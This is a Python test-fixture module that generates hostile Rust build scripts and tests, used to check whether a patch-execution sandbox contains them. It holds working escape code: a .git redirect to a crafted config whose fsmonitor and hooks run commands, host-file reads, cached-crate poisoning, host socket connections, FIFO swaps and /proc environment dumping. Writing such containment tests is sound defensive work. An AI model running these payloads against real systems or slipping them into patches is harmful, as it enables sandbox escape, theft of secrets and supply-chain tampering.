"""Containment attacks: hostile Rust code a patch brings in, one per kind of escape.

Each function returns the source of a build script or an integration test. They are used by
test_containment.py (the in-process executor under bubblewrap) and by scripts/container-attacks
(the sandbox container through its REST API), so both modes face the same code.
"""

from __future__ import annotations

import json


def _rust(text: str) -> str:
    """A Rust string literal."""
    return json.dumps(text)


_ESCAPE_FN = """
fn escape(marker: &str) -> String {
    use std::fs;
    use std::path::Path;
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let dotgit = root.join(".git");
    let evil = root.join("evil-gitdir");
    let original = fs::read_to_string(&dotgit).unwrap_or_default();
    let setup = (|| -> std::io::Result<()> {
        fs::create_dir_all(evil.join("objects"))?;
        fs::create_dir_all(evil.join("refs/heads"))?;
        fs::create_dir_all(evil.join("hooks"))?;
        fs::write(evil.join("HEAD"), "ref: refs/heads/main\\n")?;
        fs::write(evil.join("gitfile"), &original)?;
        let hook = format!("id > {marker}; cp evil-gitdir/gitfile .git; false");
        fs::write(
            evil.join("config"),
            format!("[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \\"{hook}\\"\\n\\thooksPath = hooks\\n"),
        )?;
        let hook_file = evil.join("hooks/pre-commit");
        fs::write(&hook_file, format!("#!/bin/sh\\nid > {marker}\\n"))?;
        fs::set_permissions(&hook_file, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
        Ok(())
    })();
    let nested = root.join("src/nested/.git");
    let nested_made = fs::create_dir_all(&nested).and_then(|_| fs::copy(evil.join("config"), nested.join("config")).map(|_| ()));
    let pointer = fs::write(&dotgit, format!("gitdir: {}\\n", evil.display()));
    let report = format!("ESCAPE setup={setup:?} nested={nested_made:?} pointer={pointer:?}");
    let _ = fs::write(root.join("escape-report.txt"), &report);
    report
}
"""


def git_escape_build_rs(marker: str) -> str:
    """A build script that points the worktree's `.git` at a git dir it made, whose config runs a command (the
    attack reports what it managed in `escape-report.txt` at the crate's root)."""
    return f"{_ESCAPE_FN}\nfn main() {{\n    println!(\"cargo:warning={{}}\", escape({_rust(marker)}));\n}}\n"


def git_escape_test(marker: str) -> str:
    """The same escape from a plain integration test (it passes, so the patch is kept)."""
    return f"{_ESCAPE_FN}\n#[test]\nfn tidy() {{\n    println!(\"{{}}\", escape({_rust(marker)}));\n}}\n"


def read_host_files(paths: list[str]) -> str:
    """A test that reads host files and fails with what it read in its panic message."""
    listed = ", ".join(_rust(p) for p in paths)
    return f"""
#[test]
fn host_files() {{
    let mut out = String::new();
    for path in [{listed}] {{
        match std::fs::read_to_string(path) {{
            Ok(text) => out.push_str(&format!("READ {{path}}: {{text}}\\n")),
            Err(err) => match std::fs::read_dir(path) {{
                Ok(dir) => {{
                    let names: Vec<String> = dir.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
                    out.push_str(&format!("LISTED {{path}}: {{names:?}}\\n"));
                }}
                Err(_) => out.push_str(&format!("DENIED {{path}}: {{err}}\\n")),
            }},
        }}
    }}
    panic!("{{out}}");
}}
"""


def include_host_file(path: str) -> str:
    """A test that embeds a host file at compile time (`include_str!`) and prints it in its panic."""
    return f'\n#[test]\nfn embedded() {{\n    panic!("EMBEDDED {{}}", include_str!({_rust(path)}));\n}}\n'


def poison_registry(crate_source: str) -> str:
    """A build script that plants code in a cached crate's source, for a later build to compile."""
    return f"""
use std::io::Write;

fn main() {{
    let target = std::path::Path::new({_rust(crate_source)});
    let planted = std::fs::OpenOptions::new()
        .append(true)
        .open(target.join("src/lib.rs"))
        .and_then(|mut f| f.write_all(b"\\npub fn planted() {{ std::process::abort() }}\\n"));
    let created = std::fs::write(target.join("src/planted.rs"), "// planted\\n");
    println!("cargo:warning=POISON append={{planted:?}} create={{created:?}}");
}}
"""


def connect_socket(path: str) -> str:
    """A test that connects to a host unix socket and sends a line through it."""
    return f"""
#[test]
fn knock() {{
    use std::io::Write;
    let sent = std::os::unix::net::UnixStream::connect({_rust(path)}).and_then(|mut s| s.write_all(b"KNOCK\\n"));
    assert!(sent.is_err(), "SOCKET reached");
    println!("SOCKET {{sent:?}}");
}}
"""


def connect_tcp(port: int) -> str:
    """A test that connects to a TCP port on the loopback (the service's own, in a container)."""
    return f"""
#[test]
fn knock_tcp() {{
    let sent = std::net::TcpStream::connect(("127.0.0.1", {port}));
    assert!(sent.is_err(), "TCP reached");
    println!("TCP {{:?}}", sent.err());
}}
"""


def fifo_swap(path: str) -> str:
    """A build script that replaces `path` (a file the patch wrote) with a FIFO, then fails the build."""
    return f"""
fn main() {{
    let target = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join({_rust(path)});
    let removed = std::fs::remove_file(&target);
    let made = std::process::Command::new("mkfifo").arg(&target).status();
    panic!("FIFO removed={{removed:?}} made={{made:?}}");
}}
"""


def print_environment() -> str:
    """A test that fails with its environment and every environment it can read under /proc."""
    return """
#[test]
fn environment() {
    let mut out: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    for entry in std::fs::read_dir("/proc").map(|d| d.flatten().collect::<Vec<_>>()).unwrap_or_default() {
        if let Ok(bytes) = std::fs::read(entry.path().join("environ")) {
            out.push(String::from_utf8_lossy(&bytes).replace('\\0', " "));
        }
    }
    panic!("ENVIRONMENT {out:?}");
}
"""


def write_files(paths: list[str]) -> str:
    """A build script that tries to create each of `paths` (making its folders) and reports every outcome."""
    listed = ", ".join(_rust(p) for p in paths)
    return f"""
fn main() {{
    for path in [{listed}] {{
        let path = std::path::Path::new(path);
        let made = path.parent().map_or(Ok(()), std::fs::create_dir_all).and_then(|_| std::fs::write(path, "planted\\n"));
        println!("cargo:warning=WRITE {{}} {{made:?}}", path.display());
    }}
}}
"""
